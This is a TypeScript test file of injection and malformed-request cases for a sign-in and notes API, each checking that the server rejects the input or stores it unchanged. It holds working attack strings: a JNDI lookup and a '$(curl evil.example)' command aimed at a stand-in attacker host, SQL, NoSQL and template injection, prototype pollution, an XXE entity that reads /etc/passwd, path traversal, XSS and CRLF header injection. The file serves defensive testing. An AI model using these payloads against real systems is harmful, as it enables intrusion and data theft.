/** Texts that a careless program would interpret as code, and malformed bodies. */
import { withToken } from '../../faults/operation';
import { createCredentials } from '../../support/accounts';
import type { Sent } from '../../support/http-client';
import type { Attack, Outcome } from '../attack';
import { variants } from '../variants';

const invalid = { status: 400, code: 'VALIDATION_FAILED' } as const;
const refusedBody = { status: 400, code: 'INVALID_REQUEST_BODY' } as const;
const wrong = { status: 401, code: 'INVALID_CREDENTIALS' } as const;

/** Usernames that are code for DynamoDB, a shell, SQL, a template or a log. */
const codeNames: Readonly<Record<string, string>> = {
  'an expression of DynamoDB': 'attribute_exists(pk) OR sub <> :x',
  'a placeholder of DynamoDB': ':name',
  'a key of the table': 'NAME#ada',
  'SQL that is always true': "' OR '1'='1",
  PartiQL: "x'] UNION SELECT * FROM Table",
  'a template': '{{constructor.constructor("return process")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack
  'a look-up of a logger': '${jndi:ldap://evil.example/x}',
  'a command': '$(curl evil.example)',
  'a wildcard': '*',
  markup: '<script>alert(1)</script>',
  'a path': '../../etc/passwd',
};

const signIn = (username: unknown, password: unknown = 'a phrase that is wrong'): Sent => ({
  method: 'POST',
  path: '/sessions/create',
  json: { username, password },
});

/**
 * Values of other types where a string is expected: operators of document stores, and DynamoDB's own types.
 */
const objects: Readonly<Record<string, unknown>> = {
  'an operator of MongoDB': { $ne: null },
  'an attribute value of DynamoDB': { S: 'ada' },
  'a list of names': ['ada', 'root'],
  'a number': 0,
  true: true,
  null: null,
  'an object with its own toString': { toString: 'ada', length: 3 },
};

/** Names of inherited object members. They are ordinary usernames. */
const inherited = ['__proto__', 'constructor', 'hasownproperty', 'tostring', '__definegetter__'];

const json = { 'content-type': 'application/json' };
const deep = (levels: number) => `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`;
const body = (text: string | Buffer, headers: Readonly<Record<string, string>> = json): Sent => ({
  method: 'POST',
  path: '/sessions/create',
  headers,
  body: text,
});
const credentials = JSON.stringify({ username: 'ada', password: 'a phrase that is wrong' });

const bodies: Readonly<Record<string, readonly [Sent, Outcome]>> = {
  'a member named __proto__': [body(credentials.replace('{', '{"__proto__":{"admin":true},')), invalid],
  'a member named constructor': [
    body(credentials.replace('{', '{"constructor":{"prototype":{"admin":true}},')),
    invalid,
  ],
  'the same member twice, the last one an object': [
    body(credentials.replace('}', ',"username":{"S":"ada"}}')),
    invalid,
  ],
  'a list of credentials': [body(`[${credentials}]`), refusedBody],
  'a text': [body('"ada"'), refusedBody],
  null: [body('null'), refusedBody],
  'JSON with a comment': [body(`/* x */${credentials}`), refusedBody],
  'two JSON texts': [body(`${credentials}${credentials}`), refusedBody],
  'half a JSON text': [body(credentials.slice(0, -2)), refusedBody],
  'a thousand levels of objects': [body(deep(1_000)), invalid],
  'UTF-16': [body(Buffer.from(credentials, 'utf16le')), refusedBody],
  'a form': [
    body('username=ada&password=x', { 'content-type': 'application/x-www-form-urlencoded' }),
    { status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
  ],
  'plain text, as a page may send it without asking': [
    body(credentials, { 'content-type': 'text/plain' }),
    { status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
  ],
  'XML with an entity of a file': [
    body('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', {
      'content-type': 'application/xml',
    }),
    { status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
  ],
  'another charset': [
    body(credentials, { 'content-type': 'application/json; charset=utf-16' }),
    { status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
  ],
  'no content type': [body(credentials, {}), { status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' }],
  '100 KB of a password': [signIn('ada', 'x'.repeat(100_000)), refusedBody],
  '100 KB of spaces around it': [
    body(`${' '.repeat(100_000)}${credentials}`),
    { status: 413, code: 'PAYLOAD_TOO_LARGE' },
  ],
};

/** Notes that are stored and returned unchanged. */
const notes: Readonly<Record<string, string>> = {
  markup: '<img src=x onerror=alert(1)>',
  'an expression of DynamoDB': 'SET #a = :b REMOVE pk',
  'line ends': 'one\r\nSet-Cookie: evil=1\r\n\r\n<html>',
  'a text that turns its direction': 'admin\u202egnp.exe',
};

export const injectionAttacks: readonly Attack[] = [
  ...variants(
    Object.entries(codeNames).map(
      ([attack, username]): Attack => ({
        requirement: ['ASVS V16.5.3', 'ASVS V1.2.4'],
        attack: `a sign-in as ${attack}`,
        request: () => signIn(username),
        expected: wrong,
      }),
    ),
  ),
  ...variants(
    Object.entries(codeNames).map(
      ([attack, username]): Attack => ({
        requirement: ['ASVS V16.5.3', 'ASVS V1.2.4'],
        attack: `a sign-up as ${attack}`,
        request: () => ({ method: 'POST', path: '/users', json: { ...createCredentials(), username } }),
        expected: invalid,
        after: ({ text }) => expect(text).not.toContain(JSON.stringify(username).slice(1, -1)),
      }),
    ),
  ),
  ...Object.entries(objects).flatMap(([attack, value]): Attack[] => [
    {
      requirement: ['ASVS V16.5.3', 'ASVS V1.2.4'],
      attack: `a sign-in whose name is ${attack}`,
      request: () => signIn(value),
      expected: invalid,
    },
    {
      requirement: ['ASVS V16.5.3', 'ASVS V1.2.4'],
      attack: `a sign-in of ada whose password is ${attack}`,
      request: ({ ada }) => signIn(ada.username, value),
      expected: invalid,
    },
  ]),
  ...inherited.map(
    (username): Attack => ({
      requirement: ['ASVS V15.3.6'],
      attack: `an account named ${username} is an ordinary account`,
      play: async (target) => {
        const { password } = createCredentials();
        expect((await target.send(signIn(username, password))).status).toBe(401);
        const created = await target.send({ method: 'POST', path: '/users', json: { username, password } });
        expect(created.json.user).toMatchObject({ username });
        const { token } = await target.signIn({ username, password });
        expect((await target.send(withToken(token, { path: '/users/me' }))).json).toMatchObject({
          username,
          scopes: [],
        });
      },
    }),
  ),
  ...variants(
    Object.entries(bodies).map(
      ([attack, [sent, expected]]): Attack => ({
        requirement: ['ASVS V16.5.3', 'ASVS V2.2.1'],
        attack: `a body of ${attack}`,
        request: () => sent,
        expected,
      }),
    ),
  ),
  ...variants(
    Object.entries(notes).map(
      ([attack, note]): Attack => ({
        requirement: ['ASVS V1.2.4', 'RFC 9110 section 5.5'],
        attack: `a note of ${attack} is returned unchanged, and in no header`,
        play: async ({ send, eve }) => {
          const created = await send(
            withToken(eve.token, { method: 'POST', path: '/foo', json: { name: 'x', note } }),
          );
          expect(created).toMatchObject({ status: 201, json: { note } });
          expect(JSON.stringify(created.headers)).not.toMatch(/evil|onerror|REMOVE/);
          const read = await send(withToken(eve.token, { path: created.headers.location ?? '' }));
          expect(read.json.note).toBe(note);
        },
      }),
    ),
  ),
  {
    requirement: ['RFC 9110 section 5.5'],
    attack: 'a line end in a path sets a header',
    request: ({ eve }) => withToken(eve.token, { path: '/foo/x%0d%0aSet-Cookie:%20evil=1' }),
    expected: { status: 404, code: 'NOT_FOUND' },
    after: ({ headers }) => expect(headers).not.toHaveProperty('set-cookie'),
  },
  ...variants(
    ['0', '-1', '101', '1e2', '0x10', '1;DROP', ' 1', '١'].map(
      (limit): Attack => ({
        requirement: ['ASVS V2.2.1'],
        attack: `a list of ${JSON.stringify(limit)} items`,
        request: ({ eve }) => withToken(eve.token, { path: `/foo?limit=${encodeURIComponent(limit)}` }),
        expected: invalid,
      }),
    ),
  ),
  {
    requirement: ['ASVS V2.2.1'],
    attack: 'an Idempotency-Key of 256 characters',
    request: ({ eve }) =>
      withToken(eve.token, {
        method: 'POST',
        path: '/foo',
        json: { name: 'x' },
        headers: { 'idempotency-key': 'k'.repeat(256) },
      }),
    expected: invalid,
  },
];
